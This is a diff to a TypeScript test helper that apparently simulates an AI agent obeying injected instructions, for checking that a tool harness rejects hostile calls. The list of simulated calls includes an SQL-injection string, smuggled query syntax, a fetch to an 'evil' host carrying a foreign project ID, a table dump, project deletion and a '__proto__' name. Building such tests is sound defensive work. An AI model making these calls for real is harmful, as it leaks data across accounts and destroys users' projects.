@@ -35,8 +35,10 @@ function obeyed(): { name: string; input: unknown }[] {
   const [projectId = "", accountId = "", resultId = ""] = foreign;
   const all = [
     { name: "search_project", input: { words: canary, projectId, project_id: projectId, kind: "memo" } },
-    { name: "read_result", input: { tool: "analyze", resultId, projectId } },
-    { name: "read_result", input: { tool: `analyze' or project_id = '${projectId}` } },
+    { name: "read_result", input: { id: resultId, projectId } },
+    { name: "read_result", input: { id: `r1' or '1` } },
+    { name: "change_line", input: { item: resultId, text: canary } },
+    { name: "choose", input: { items: [`${resultId}.1`] } },
     { name: "search_project", input: { words: `') | p${projectId} | ('`, limit: 100_000 } },
     { name: "fetch_url", input: { url: `${evil}/?d=${projectId}` } },
     { name: "run_sql", input: { query: "select * from memo" } },
@@ -44,8 +46,8 @@ function obeyed(): { name: string; input: unknown }[] {
     { name: "delete_project", input: { projectId } },
     { name: "search_project", input: "{not json" },
     { name: "__proto__", input: { projectId } },
-    { name: "make_", input: {} },
-    { name: "make_analyze", input: { framework: evil } },
+    { name: "make_analyze", input: {} },
+    { name: "start_tool", input: { tool: "analyze", conditions: { framework: evil } } },
   ];
   return Array.from({ length: callsOfTurn }, () => {
     attempt += 1;
@@ -62,7 +64,9 @@ function obey(turn: number): Turn {
     target: { text: canary, change: "reroll" },
     projectId: foreign[0],
   };
-  return { calls: [{ name: "make_search", input: outside }] };
+  return {
+    calls: [{ name: "start_tool", input: { tool: "search", conditions: outside, projectId: foreign[0] } }],
+  };
 }
 
 let turn = 0;
